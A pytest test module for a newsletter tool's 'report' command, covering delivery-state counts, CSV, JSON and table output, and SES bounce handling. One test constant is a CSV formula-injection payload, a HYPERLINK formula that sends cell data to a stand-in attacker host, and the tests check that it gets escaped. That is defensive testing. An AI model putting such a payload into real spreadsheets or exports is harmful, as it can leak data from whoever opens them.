"""`newsletter report`: every ledger state counted, who may have missed the issue, and who they are (design §4).

The ledger is built by a real `newsletter send` (file transport) through the command line; the states a
crash, a refusal or a departure would leave are then set with SQL. Bounces come in as SES notifications
through mailer.take, as the poller and the webhook feed them. On SQLite and PostgreSQL.
"""
from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import os
import shutil
import uuid
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import select, update

import mailer
import subscribers as subs
from mailer.reports import CSV_HEADER, rates, recipients, safe_cell, warnings
from mailer.schema import deliveries, sends
from newsletter.cli import main

from .conftest import FIXTURES, ISSUES

SLUG = "2021-01"
STATES = ("sent", "failed", "pending", "unknown", "skipped")
REASON = '=HYPERLINK("https://evil.example/?"&A1,"click")'  # what a hostile SES answer could carry
PEOPLE = [f"reader{i}@example.org" for i in range(8)] + ["=1+2@example.org"]
# Who ends in which state of the `members` send (the rest stay sent).
FAILED = {"reader3@example.org": REASON, "=1+2@example.org": "550 mailbox unavailable,\nsee \"the\" log"}
UNKNOWN = ["reader4@example.org", "reader5@example.org"]  # reader5 is then forgotten
PENDING = ["reader6@example.org"]
SKIPPED = {"reader7@example.org": "skipped: unsubscribed"}
SENT = ["reader0@example.org", "reader1@example.org", "reader2@example.org"]
FRIENDS = ["friend0@example.org", "friend1@example.org"]


@pytest.fixture(autouse=True)
def clean_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith("NEWSLETTER_") and not name.startswith("NEWSLETTER_TEST_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def cli(db_url: str, tmp_path: Path):
    env = {"NEWSLETTER_DATABASE_URL": db_url, "NEWSLETTER_TRANSPORT": "file",
           "NEWSLETTER_OUTBOX": str(tmp_path / "outbox"), "NEWSLETTER_FROM": "News <news@example.org>",
           "NEWSLETTER_SECRET": "test-only-signing-key-of-test-report-9Zt2", "NEWSLETTER_BASE_URL": "https://news.example.org"}

    def invoke(*args: str) -> Result:
        result = CliRunner().invoke(main, list(args), env=env)
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        return result
    return invoke


@pytest.fixture
def db(db_url: str):
    database = subs.open_database(db_url, extra_migrations=(mailer.MIGRATIONS,))
    yield database
    database.dispose()


def ok(result: Result) -> str:
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout


def set_state(db, email: str, state: str, error: str | None = None) -> None:
    """What a crash (sending), a refusal (failed), a departure (skipped) or an unfinished run (pending) leaves."""
    subscriber_id = ids(db)[email]
    with db.begin() as conn:
        members = select(sends.c.id).where(sends.c.list_name == "members").scalar_subquery()
        conn.execute(update(deliveries).where(deliveries.c.send_id == members,
                                              deliveries.c.subscriber_id == subscriber_id).values(
            state=state, error=error, message_id=None if state != "sent" else deliveries.c.message_id,
            sent_at=None if state != "sent" else deliveries.c.sent_at))


def ids(db) -> dict[str, int]:
    return {p["email"]: p["id"] for p in _people(db)}


def _people(db) -> list[dict[str, Any]]:
    from sqlalchemy import text
    with db.begin() as conn:
        return [dict(r._mapping) for r in conn.execute(text("SELECT id, email FROM subscribers"))]


def message_ids(db) -> dict[str, str]:
    """email -> the message id the send recorded (sent rows)."""
    by_id = {v: k for k, v in ids(db).items()}
    with db.begin() as conn:
        return {by_id[s]: m for s, m in conn.execute(
            select(deliveries.c.subscriber_id, deliveries.c.message_id).where(deliveries.c.state == "sent"))}


@pytest.fixture
def sent(cli, db, tmp_path: Path) -> Path:
    """`members` (9 people) and `friends` (2) sent the issue for real; then members' rows put in every state."""
    folder = tmp_path / "issues"
    folder.mkdir()
    shutil.copy(ISSUES / f"{SLUG}.yaml", folder / f"{SLUG}.yaml")
    shutil.copytree(ISSUES / SLUG, folder / SLUG)
    for name, people in (("members", PEOPLE), ("friends", FRIENDS)):
        subs.create_list(db, name)
        for email in people:
            subs.add_subscriber(db, email, name)
        out = ok(cli("send", str(folder / f"{SLUG}.yaml"), "--list", name, "--yes", "--rate", "10000"))
        assert f"{len(people)} sent, 0 failed" in out
    for email, reason in FAILED.items():
        set_state(db, email, "failed", reason)
    for email in UNKNOWN:
        set_state(db, email, "sending")
    for email in PENDING:
        set_state(db, email, "pending")
    for email, reason in SKIPPED.items():
        set_state(db, email, "skipped", reason)
    subs.forget(db, "reader5@example.org")
    return folder


def report_rows(cli) -> list[dict[str, Any]]:
    return list(json.loads(ok(cli("report", SLUG, "--json"))))


def csv_rows(cli, state: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(ok(cli("report", SLUG, "--recipients", state, "--csv")))))


# --- report --json -----------------------------------------------------------------------------------

def test_json_counts_every_state_and_they_add_up(cli, db, sent):
    members, friends = report_rows(cli)
    with db.begin() as conn:
        send_ids = dict(conn.execute(select(sends.c.list_name, sends.c.id)).all())
    assert members == {
        "id": send_ids["members"], "issue": SLUG, "list": "members", "segment": None, "state": "finished",
        "recipients": 9, "sent": 3, "failed": 2, "pending": 1, "unknown": 2, "skipped": 1,
        "delivered": 0, "bounced_hard": 0, "bounced_soft": 0, "complained": 0, "unsubscribed": 0}
    assert sum(members[s] for s in STATES) == members["recipients"]
    assert (friends["id"], friends["list"], friends["recipients"], friends["sent"]) == (send_ids["friends"],
                                                                                         "friends", 2, 2)
    assert sum(friends[s] for s in STATES) == friends["recipients"]


def test_state_is_the_sends_own(cli, db, sent):
    with db.begin() as conn:
        conn.execute(update(sends).where(sends.c.list_name == "members").values(state="stopped"))
    assert [r["state"] for r in report_rows(cli)] == ["stopped", "finished"]


# --- report --recipients STATE --csv -------------------------------------------------------------------

def test_csv_of_each_state_lists_exactly_its_people(cli, db, sent):
    found = {state: csv_rows(cli, state) for state in STATES}
    for state, rows in found.items():
        assert rows[0] == list(CSV_HEADER) == ["email", "state", "reason", "message_id", "updated_at"]
        assert {r[1] for r in rows[1:]} <= {state}
    emails = {state: sorted(r[0] for r in rows[1:]) for state, rows in found.items()}
    assert emails == {
        "sent": sorted(SENT + FRIENDS),  # every send of the issue
        "failed": sorted(["reader3@example.org", "'=1+2@example.org"]),
        "pending": PENDING,
        "unknown": ["", "reader4@example.org"],  # reader5 was forgotten: no address, no crash
        "skipped": list(SKIPPED)}
    mids = message_ids(db)
    assert {r[0]: r[3] for r in found["sent"][1:]} == {e: mids[e] for e in SENT + FRIENDS}
    assert all(r[3] == "" for state in ("failed", "pending", "unknown", "skipped") for r in found[state][1:])
    for rows in found.values():
        for row in rows[1:]:
            assert dt.datetime.fromisoformat(row[4]).utcoffset() == dt.timedelta(0)


def test_csv_cells_never_come_out_as_formulas(cli, sent):
    rows = {r[0]: r for r in csv_rows(cli, "failed")[1:]}
    assert rows["reader3@example.org"][2] == "'" + REASON
    # a quote, a comma and a line break survive CSV quoting as they were
    assert rows["'=1+2@example.org"][2] == FAILED["=1+2@example.org"]
    assert csv_rows(cli, "skipped")[1][2] == "skipped: unsubscribed"


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("0100018c-ab", "0100018c-ab")])
def test_safe_cell(cell, shown):
    assert safe_cell(cell) == shown


def test_csv_of_a_slug_never_sent_is_the_header_alone(cli, db):
    assert ok(cli("report", "1999-01", "--recipients", "failed", "--csv")).splitlines() == [",".join(CSV_HEADER)]


def test_recipients_streams_in_chunks_the_same_rows(db, sent):
    whole = list(recipients(db, SLUG, "sent"))
    assert [r.email for r in recipients(db, SLUG, "sent", chunk=1)] == [r.email for r in whole]
    assert [r.list for r in whole] == ["members"] * 3 + ["friends"] * 2  # by send, then ledger order
    rows = recipients(db, SLUG, "sent", chunk=1)
    assert next(rows).email == SENT[0]
    rows.close()  # stopping half-way gives the connection back: a write goes through
    subs.add_subscriber(db, "late@example.org", "members")


def test_an_unknown_state_is_refused(cli, db):
    with pytest.raises(mailer.MailerError, match="one of sent, failed, pending, unknown, skipped"):
        list(recipients(db, SLUG, "sending"))
    result = cli("report", SLUG, "--recipients", "sending")
    assert result.exit_code == 2 and "sending" in result.output


@pytest.mark.parametrize("args", [["--csv"], ["--recipients", "failed", "--json"],
                                  ["--recipients", "failed", "--chart", "x.png"]])
def test_options_that_do_not_go_together(cli, db, args):
    result = cli("report", SLUG, *args)
    assert result.exit_code == 2 and "--recipients" in result.output


# --- report --recipients STATE (a table) and the human report --------------------------------------------

def test_table_of_unknown_people(cli, sent):
    out = ok(cli("report", SLUG, "--recipients", "unknown"))
    header, rule, *rows = out.splitlines()
    assert header.split() == ["email", "list", "state", "reason", "message", "id", "updated"]
    assert set(rule) <= {"-", " "}
    assert len(rows) == 2
    assert rows[0].split()[:3] == ["reader4@example.org", "members", "unknown"]
    assert rows[1].split()[:3] == ["(forgotten)", "members", "unknown"]


def test_table_keeps_control_characters_off_the_terminal(cli, sent):
    out = ok(cli("report", SLUG, "--recipients", "failed"))
    assert "'=1+2" not in out and "=1+2@example.org" in out  # the sheet's guard is for CSV, not for people
    assert 'mailbox unavailable, see "the" log' in out
    assert len(out.splitlines()) == 4


def test_table_when_nobody_is_in_the_state_or_nothing_was_sent(cli, db, sent):
    with db.begin() as conn:
        conn.execute(update(deliveries).where(deliveries.c.state == "pending").values(state="sent"))
    assert ok(cli("report", SLUG, "--recipients", "pending")) == f"No recipient of {SLUG!r} is pending.\n"
    result = cli("report", "1999-01", "--recipients", "pending")
    assert result.exit_code == 1 and "no send of '1999-01'" in result.stderr


def test_human_report_says_who_may_have_missed_it_and_how_to_list_them(cli, sent):
    out = ok(cli("report", SLUG))
    lines = out.splitlines()
    header = lines[0].split()
    assert header[:7] == ["list", "recipients", "sent", "failed", "pending", "unknown", "skipped"]
    assert lines[2].split()[:7] == ["members", "9", "3", "2", "1", "2", "1"]
    assert "5 people may have missed this issue: 2 failed, 2 unknown, 1 pending." in lines
    assert "  members: 2 failed, 2 unknown, 1 pending" in lines  # friends all have it: not listed
    assert not any(line.startswith("  friends:") for line in lines)
    for state in ("failed", "unknown", "pending"):
        assert f"  newsletter report {SLUG} --recipients {state}" in lines
    assert ("unknown: handed to SES or not, nobody knows yet; SES events settle them; "
            "`send --retry-unknown` resends the rest") in lines


# --- bounces on the account's suppression list ------------------------------------------------------------

def bounce(email: str, message_id: str, subtype: str) -> str:
    """A real SES bounce notification (the DSN example of the AWS docs) for one of our messages."""
    payload = json.loads((FIXTURES / "ses" / "notification-bounce-dsn.json").read_text("utf-8"))
    payload = copy.deepcopy(payload)
    payload["bounce"].update(bounceType="Permanent", bounceSubType=subtype, feedbackId=str(uuid.uuid4()),
                             bouncedRecipients=[{"emailAddress": email, "action": "failed", "status": "5.1.1",
                                                 "diagnosticCode": f"smtp; 550 5.1.1 <{email}>"}])
    payload["mail"].update(messageId=message_id, destination=[email])
    return json.dumps(payload)


def test_suppression_list_bounces_count_as_hard_but_not_in_the_bounce_rate(cli, db, sent):
    mids = message_ids(db)
    applied = mailer.take(db, [bounce(e, mids[e], "OnAccountSuppressionList") for e in SENT[:2]],
                          mailer.Policy(), "test")
    assert applied is not None
    members, _ = mailer.report(db, SLUG)
    assert (members["sent"], members["bounced_hard"]) == (3, 2)
    assert rates(members) == (0.0, 0.0) and warnings(members) == []
    assert json.loads(json.dumps(members)) == report_rows(cli)[0]  # the JSON object carries no extra key
    result = cli("report", SLUG)
    assert result.exit_code == 0 and "WARNING" not in result.stderr

    mailer.take(db, [bounce(SENT[2], mids[SENT[2]], "General")], mailer.Policy(), "test")
    members, _ = mailer.report(db, SLUG)
    assert members["bounced_hard"] == 3
    assert rates(members)[0] == pytest.approx(1 / 3)
    assert "WARNING members: bounce rate 33.3% is over 5%" in cli("report", SLUG).stderr
    assert rates(report_rows(cli)[0])[0] == 1.0  # a row read back from JSON: every hard bounce, the safe side
